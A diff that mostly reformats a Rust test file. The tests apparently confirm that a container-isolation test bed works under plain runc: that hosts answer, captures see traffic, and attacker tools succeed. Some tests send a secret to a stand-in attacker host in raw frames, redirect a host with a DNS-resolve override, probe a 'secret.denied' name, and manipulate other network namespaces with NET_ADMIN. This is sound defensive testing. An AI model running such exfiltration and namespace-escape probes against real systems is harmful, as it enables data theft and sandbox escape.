@@ -1,5 +1,5 @@
-//! The bed itself, under plain runc: the outside answers, the captures see, the attacker's weapons work. Without these
-//! "nothing got through" would prove nothing.
+//! The bed itself, under plain runc: the outside answers, the captures see, the attacker's weapons
+//! work. Without these "nothing got through" would prove nothing.
 
 use crate::Test;
 use crate::bed::{Bed, Capture};
@@ -7,9 +7,18 @@ use crate::hosts::{ATTACKER, DENIED};
 
 pub(crate) const TESTS: &[Test] = &[
     ("a_plain_container_reaches_every_host", every_host),
-    ("the_capture_sees_what_a_plain_container_sends", capture_sees),
-    ("a_plain_container_with_net_admin_reaches_into_other_namespaces", rtnetlink_works),
-    ("raw_frames_of_a_plain_container_are_on_the_wire", frames_on_the_wire),
+    (
+        "the_capture_sees_what_a_plain_container_sends",
+        capture_sees,
+    ),
+    (
+        "a_plain_container_with_net_admin_reaches_into_other_namespaces",
+        rtnetlink_works,
+    ),
+    (
+        "raw_frames_of_a_plain_container_are_on_the_wire",
+        frames_on_the_wire,
+    ),
 ];
 
 fn every_host(bed: &Bed) {
@@ -18,11 +27,21 @@ fn every_host(bed: &Bed) {
         ("https://allowed.test/", "I am allowed.test"),
         ("https://deep.below.wild.test/", "I am *.wild.test"),
         ("http://denied.test/", "I am denied.test"),
-        ("-6 https://denied.test/", "I am denied.test at 2001:db8:1::20"),
-        ("--resolve allowed.test:443:203.0.113.66 https://allowed.test/", "I am attacker.test"),
+        (
+            "-6 https://denied.test/",
+            "I am denied.test at 2001:db8:1::20",
+        ),
+        (
+            "--resolve allowed.test:443:203.0.113.66 https://allowed.test/",
+            "I am attacker.test",
+        ),
     ] {
         let answer = bed.run_with("runc", &[], &format!("curl -sS -m 5 {url}"));
-        assert!(answer.must_succeed().stdout.contains(who), "{url}: {}", answer.stdout);
+        assert!(
+            answer.must_succeed().stdout.contains(who),
+            "{url}: {}",
+            answer.stdout
+        );
     }
 }
 
@@ -36,17 +55,32 @@ fn capture_sees(bed: &Bed) {
         DENIED.v6, ATTACKER.v4
     );
     let said = container.exec(&script).must_succeed().stdout.clone();
-    let words: Vec<&str> = said.lines().filter_map(|line| line.split(' ').next()).collect();
-    assert_eq!(words, ["connected", "answered", "answered", "answered", "nxdomain"]);
+    let words: Vec<&str> = said
+        .lines()
+        .filter_map(|line| line.split(' ').next())
+        .collect();
+    assert_eq!(
+        words,
+        ["connected", "answered", "answered", "answered", "nxdomain"]
+    );
     let packets = capture.stop().join("\n");
-    for sign in ["198.51.100.20.22: Flags [S]", "198.51.100.20.9999: UDP", "ICMP echo request", "IP6 ", "secret.denied"]
-    {
+    for sign in [
+        "198.51.100.20.22: Flags [S]",
+        "198.51.100.20.9999: UDP",
+        "ICMP echo request",
+        "IP6 ",
+        "secret.denied",
+    ] {
         assert!(packets.contains(sign), "no {sign} in:\n{packets}");
     }
 }
 
 fn rtnetlink_works(bed: &Bed) {
-    let answer = bed.run_with("runc", &["--cap-add", "NET_ADMIN"], "attacker rtnetlink eth0");
+    let answer = bed.run_with(
+        "runc",
+        &["--cap-add", "NET_ADMIN"],
+        "attacker rtnetlink eth0",
+    );
     let said = &answer.must_succeed().stdout;
     assert!(said.contains("list links in 0: permitted"), "{said}");
     assert!(said.contains("make a veth into 0: permitted"), "{said}");
@@ -58,10 +92,21 @@ fn frames_on_the_wire(bed: &Bed) {
     let container = bed.start_with("runc", &[], &["sleep", "600"]);
     let capture = Capture::start(bed, &container.uplink(), "in");
     container
-        .exec(&format!("attacker frames eth0 {0} a-secret; attacker raw {0} a-secret", ATTACKER.v4))
+        .exec(&format!(
+            "attacker frames eth0 {0} a-secret; attacker raw {0} a-secret",
+            ATTACKER.v4
+        ))
         .must_succeed();
     let packets = capture.stop();
-    let frames = packets.iter().filter(|packet| packet.contains("203.0.113.66.53:")).count();
+    let frames = packets
+        .iter()
+        .filter(|packet| packet.contains("203.0.113.66.53:"))
+        .count();
     assert!(frames >= 4, "{frames} frames in {packets:#?}");
-    assert!(packets.iter().any(|packet| packet.contains("203.0.113.66:  ip-proto-253")), "{packets:#?}");
+    assert!(
+        packets
+            .iter()
+            .any(|packet| packet.contains("203.0.113.66:  ip-proto-253")),
+        "{packets:#?}"
+    );
 }
